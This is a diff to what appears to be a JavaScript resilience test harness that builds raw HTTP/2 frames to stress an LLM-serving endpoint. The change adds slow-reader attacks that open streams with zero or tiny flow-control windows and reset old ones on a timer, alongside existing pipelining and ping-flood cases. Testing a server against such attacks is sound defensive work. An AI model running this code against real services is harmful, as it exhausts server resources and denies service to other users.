@@ -7,6 +7,9 @@ import { FLOOD, INVOKE, signed, STREAM, UNKNOWN_KEY } from "./callers.mjs";
 const RST_STREAM = 3;
 const PING = 6;
 const CANCEL = Buffer.from([0, 0, 0, 8]);
+/** Time after which a reader that takes nothing asks for another stream, and how many it leaves open. */
+const COME_BACK_MS = 500;
+const OPEN_STREAMS = 90;
 /** Time before a connection that the server has closed is opened again. */
 const AGAIN_MS = 20;
 
@@ -47,6 +50,25 @@ const head = (path, headers = []) =>
 const authorization = (body) => signed(INVOKE, body, UNKNOWN_KEY);
 const PIPELINED = Buffer.from("GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n".repeat(1_000));
 const BIG = 24_000_000;
+
+/** Asks for a long stream now and then, whatever became of those before; when as many are open as may be, the oldest is reset. */
+function comeBack(socket, window) {
+  socket.resume();
+  const body = Buffer.from(JSON.stringify({ prompt: FLOOD, max_gen_len: 2048 }));
+  socket.write(Buffer.concat([PREFACE, settings(window)]));
+  let stream = 1;
+  const ask = () => {
+    if (socket.destroyed) return;
+    const oldest = stream - 2 * OPEN_STREAMS;
+    if (oldest > 0) socket.write(frame(RST_STREAM, 0, oldest, CANCEL));
+    socket.write(
+      Buffer.concat([frame(1, END_HEADERS, stream, head(STREAM)), frame(0, END_STREAM, stream, body)]),
+    );
+    stream += 2;
+    setTimeout(ask, COME_BACK_MS);
+  };
+  ask();
+}
 
 const attacks = {
   pipelined(socket) {
@@ -94,21 +116,16 @@ const attacks = {
     socket.resume();
   },
   readers(socket) {
-    socket.resume();
-    const body = Buffer.from(JSON.stringify({ prompt: FLOOD, max_gen_len: 2048 }));
-    socket.write(Buffer.concat([PREFACE, settings(0)]));
-    const ask = (stream) => {
-      if (socket.destroyed) return;
-      socket.write(
-        Buffer.concat([frame(1, END_HEADERS, stream, head(STREAM)), frame(0, END_STREAM, stream, body)]),
-      );
-    };
-    let stream = 1;
-    ask(stream);
-    socket.on("data", (bytes) => {
-      for (let at = 0; at + 9 <= bytes.length; at += 9 + bytes.readUIntBE(at, 3))
-        if (bytes[at + 3] === RST_STREAM) ask((stream += 2));
-    });
+    comeBack(socket, 0);
+  },
+  smallReaders(socket) {
+    comeBack(socket, 1_000);
+  },
+  /** These take what every client takes, which is the window that the protocol gives a stream, and from then on nothing. */
+  fullReaders(socket) {
+    comeBack(socket, 65_535);
+    // the connection's window is used up by then, and a new one costs nothing
+    setTimeout(() => socket.destroy(), 10 * COME_BACK_MS);
   },
   pings(socket) {
     socket.resume();
